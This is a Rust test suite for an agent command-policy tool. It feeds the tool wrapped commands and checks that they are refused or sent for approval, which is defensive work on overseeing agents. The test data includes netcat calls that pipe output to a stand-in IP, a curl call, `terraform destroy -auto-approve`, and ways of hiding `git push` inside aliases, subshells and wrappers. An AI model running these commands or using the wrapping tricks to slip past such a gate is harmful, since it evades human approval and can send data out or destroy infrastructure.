//! The tricks that make one command out of another, as an agent would try them: through `bartizan check`, where the text
//! has to be enough, and in a box, where each start of a program is caught.

use bartizan_testkit::User;
use serde::Deserialize;
use serde_json::{Value, json};

use crate::world::World;

/// The same that the policy's own tests go through.
const TRICKS: &str = include_str!("../../../policy/tests/tricks.jsonl");
const POLICY: &str = include_str!("../../../policy/tests/tricks.yaml");

/// What is let in by name for the tricks in a box, so that they get as far as they can.
const CARRIERS: &str =
    "    - \"{sh,bash,dash,env,xargs,find,timeout,nohup,nice,setsid,stdbuf,busybox,zsh,awk,watch}\"\n";

#[derive(Deserialize)]
struct Trick {
    trick: String,
    argv: Vec<String>,
    effect: String,
}

fn tricks() -> Vec<Trick> {
    TRICKS.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn write_policy(world: &World, text: &str) {
    world.home.write_home("policy.yaml", text);
}

#[test]
fn check_sees_through_every_trick() {
    World::each(|world| {
        write_policy(&world, POLICY);
        let tricks = tricks();
        let cwd = world.home.workspace();
        let lines: String = tricks
            .iter()
            .map(|trick| {
                let deed = json!({ "kind": "exec.run", "program": trick.argv[0], "args": trick.argv, "cwd": cwd });
                format!("{}\n", json!({ "id": trick.trick, "action": deed }))
            })
            .collect();
        let policy = world.home.user_home().join("policy.yaml");
        let answers = world.bartizan(["check", "--policy"]).arg(policy).stdin(lines.as_bytes()).success().json_lines();
        assert_eq!(answers.len(), tricks.len());
        let wrong: Vec<&Value> = answers
            .iter()
            .zip(&tricks)
            .filter(|(answer, trick)| answer["effect"] != trick.effect.as_str())
            .map(|(answer, _)| answer)
            .collect();
        assert!(wrong.is_empty(), "{wrong:#?}");
    });
}

/// Under the persona that lets programs start, what it asks for is asked for whatever it is wrapped in.
#[test]
fn coding_assistant_asks_for_what_reaches_others() {
    let world = World::new(User::Current);
    let shell = |text: &str| vec!["sh".to_owned(), "-c".to_owned(), text.to_owned()];
    let words = |text: &str| text.split(' ').map(str::to_owned).collect::<Vec<_>>();
    let cases = [
        (words("cargo build --release"), "allow"),
        (words("git commit -m push"), "allow"),
        (words("gh pr view 7"), "allow"),
        (words("terraform plan"), "allow"),
        (words("git push"), "ask"),
        (words("git -C x push"), "ask"),
        (words("git -c alias.p=push p"), "ask"),
        (words("env A=b git push origin main"), "ask"),
        (shell("cargo test && git push"), "ask"),
        (shell("echo $(git push)"), "ask"),
        (shell("git commit -m x\ngit push"), "ask"),
        (words("npm publish --access public"), "ask"),
        (words("gh pr create --fill"), "ask"),
        (words("terraform -chdir=x apply"), "ask"),
        (words("kubectl -n prod delete pod x"), "ask"),
        (words("ssh build.example uptime"), "ask"),
        (words("xargs -I{} ssh {} uptime"), "ask"),
        (words("busybox nc 192.0.2.1 80"), "ask"),
    ];
    let lines: String = cases
        .iter()
        .map(|(argv, _)| format!("{}\n", json!({ "kind": "exec.run", "program": argv[0], "args": argv })))
        .collect();
    let check = world.bartizan(["check", "--persona", "coding_assistant"]).stdin(lines.as_bytes());
    for (answer, (argv, effect)) in check.success().json_lines().iter().zip(&cases) {
        assert_eq!(answer["effect"], *effect, "{argv:?}: {answer:#}");
    }
}

/// Even with shells and wrappers let in whatever their text, nothing but `id` is started.
#[test]
fn no_trick_starts_another_program_in_a_box() {
    let world = World::new(User::Current);
    write_policy(&world, &POLICY.replace("    - id\n", &format!("    - id\n{CARRIERS}")));
    for trick in tricks() {
        let argv: Vec<&str> = trick.argv.iter().map(String::as_str).collect();
        // How it ends is the trick's business; programs that aren't here can't be started at all.
        world.run_with([], argv).output();
    }
    let ran = |name: &str| {
        let ends = format!("/{name}");
        world
            .deeds("exec.run")
            .into_iter()
            .filter(|row| row["closed"]["record"]["outcome"]["status"] == "done")
            .filter(|row| row["record"]["action"]["deed"]["program"].as_str().unwrap().ends_with(&ends))
            .count()
    };
    assert_eq!(ran("nproc"), 0, "{:#}", world.deed("exec.run", "/nproc"));
    assert!(ran("id") > 20, "hardly anything was started, so hardly anything was tried");
}

/// Under a persona: what is listed runs through a shell, and one command among them that isn't is enough to refuse.
#[test]
fn a_persona_runs_its_commands_and_no_others() {
    let world = World::new(User::Current);
    let run =
        |persona: &str, script: &str| world.bartizan(["run", "--persona", persona, "--", "sh", "-c", script]).output();
    assert!(run("secops", "id && echo done").expect_code(0).stdout.ends_with("done\n"));
    run("secops", "id; curl https://example.com").assert_refused();
    run("secops", "bash -c 'id | nc 192.0.2.1 80'").assert_refused();
    run("code_janitor", "git status; git push origin main").assert_refused();
    run("sre", "terraform -chdir=x destroy -auto-approve").assert_refused();
    run("data", "dbt run --target=prod").assert_refused();
}

trait Refused {
    fn assert_refused(self);
}

impl Refused for bartizan_testkit::Output {
    fn assert_refused(self) {
        let output = self.expect_code(125);
        assert!(output.stderr.contains("denied by `exec.deny"), "{}", output.stderr);
    }
}
